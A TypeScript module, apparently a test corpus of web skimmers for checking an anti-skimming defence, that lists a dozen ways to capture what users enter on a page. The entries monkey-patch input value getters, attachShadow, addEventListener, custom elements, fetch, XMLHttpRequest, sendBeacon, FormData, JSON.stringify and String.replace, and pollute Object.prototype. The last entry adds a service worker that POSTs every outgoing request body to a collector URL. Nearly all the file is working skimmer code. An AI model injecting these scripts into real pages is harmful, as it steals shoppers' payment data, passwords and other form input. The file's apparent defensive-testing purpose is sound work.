// Skimmers that replace the browser's own functions.
import type { Skimmer } from './skimmer.ts';

/* oxlint-disable typescript/unbound-method -- each replacement calls the original with its own `this` */
export const PATCHING: readonly Skimmer[] = [
  {
    what: 'the getter of an input’s value',
    script: ({ steal, valueOf }) => {
      const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')!;
      Object.defineProperty(HTMLInputElement.prototype, 'value', {
        ...own,
        get(this: HTMLInputElement) {
          steal(valueOf(this));
          return valueOf(this);
        },
      });
    },
  },
  {
    what: 'attachShadow, which also gives access to closed roots',
    script: ({ steal, valueOf }) => {
      const attach = Element.prototype.attachShadow;
      Element.prototype.attachShadow = function (options) {
        const root = attach.call(this, options);
        setInterval(() => steal([...root.querySelectorAll('input')].map(valueOf).join('|')), 50);
        return root;
      };
    },
  },
  {
    what: 'addEventListener, wrapping every listener',
    script: ({ steal, valueOf }) => {
      const add = EventTarget.prototype.addEventListener;
      EventTarget.prototype.addEventListener = function (type, listener, options) {
        if (type === 'input') add.call(this, type, ({ target }) => steal(valueOf(target)), true);
        add.call(this, type, listener, options);
      };
    },
  },
  {
    what: 'customElements.define, wrapping every element',
    script: ({ steal, valueOf }) => {
      const define = customElements.define.bind(customElements);
      customElements.define = (name, element, options) => {
        const { prototype } = element as unknown as { prototype: { connectedCallback?(): void } };
        const connected = prototype.connectedCallback;
        prototype.connectedCallback = function (this: { renderRoot?: ParentNode }) {
          connected?.call(this);
          const read = (): string => [...(this.renderRoot?.querySelectorAll('input') ?? [])].map(valueOf).join('|');
          setInterval(() => steal(read()), 50);
        };
        define(name, element, options);
      };
    },
  },
  {
    what: 'String.prototype.replace',
    script: ({ steal }) => {
      const replace = Reflect.get(String.prototype, 'replace') as (...given: unknown[]) => string;
      Object.assign(String.prototype, {
        replace(this: unknown, ...given: unknown[]) {
          steal(String(this));
          return replace.apply(this, given);
        },
      });
    },
  },
  {
    what: 'JSON.stringify',
    script: ({ steal }) => {
      const stringify = JSON.stringify.bind(JSON) as (...given: unknown[]) => string;
      JSON.stringify = (...given: unknown[]) => {
        const text = stringify(...given);
        steal(text);
        return text;
      };
    },
  },
  {
    what: 'a polluted Object.prototype: toJSON on every object',
    script: ({ steal }) => {
      // oxlint-disable-next-line no-extend-native -- this is the attack
      Object.defineProperty(Object.prototype, 'toJSON', {
        configurable: true,
        value(this: object) {
          for (const value of Object.values(this)) steal(value);
          return this;
        },
      });
    },
  },
  {
    what: 'fetch',
    script: ({ steal }) => {
      const send = window.fetch;
      window.fetch = (to, how) => {
        steal(how?.body);
        return send(to, how);
      };
    },
  },
  {
    what: 'XMLHttpRequest',
    script: ({ steal }) => {
      const send = XMLHttpRequest.prototype.send;
      XMLHttpRequest.prototype.send = function (body) {
        steal(body);
        send.call(this, body);
      };
    },
    blind: 'The form sends by fetch.',
  },
  {
    what: 'sendBeacon',
    script: ({ steal }) => {
      const send = Navigator.prototype.sendBeacon;
      Navigator.prototype.sendBeacon = function (to, body) {
        steal(body);
        return send.call(this, to, body);
      };
    },
    blind: 'The form sends by fetch.',
  },
  {
    what: 'FormData',
    script: ({ steal }) => {
      const Own = window.FormData;
      window.FormData = class extends Own {
        constructor(form?: HTMLFormElement, submitter?: HTMLElement | null) {
          super(form, submitter);
          for (const [, value] of this) steal(value);
        }
        override append(name: string, value: string | Blob): void {
          steal(value);
          super.append(name, value as string);
        }
      };
    },
    blind: 'The form makes none; a skimmer can, as one of those that listen does.',
  },
  {
    what: 'a service worker of the shop',
    script: ({ home }) => {
      void navigator.serviceWorker?.register(`/worker.js?home=${encodeURIComponent(home)}`);
    },
  },
];

/** The worker of the last row: a separate script. */
export function worker(): void {
  const scope = globalThis as unknown as {
    readonly clients: { claim(): Promise<void> };
    skipWaiting(): Promise<void>;
  };
  const home = new URL(location.href).searchParams.get('home') ?? '';
  addEventListener('install', () => void scope.skipWaiting());
  addEventListener('activate', () => void scope.clients.claim());
  addEventListener('fetch', (event) => {
    const { request } = event as Event & { readonly request: Request };
    // Not the other skimmers' own requests.
    if (request.url.startsWith(new URL(home).origin)) return;
    void request
      .clone()
      .text()
      .then((text) => fetch(home, { method: 'POST', mode: 'no-cors', body: `${request.url} ${text}` }));
  });
}
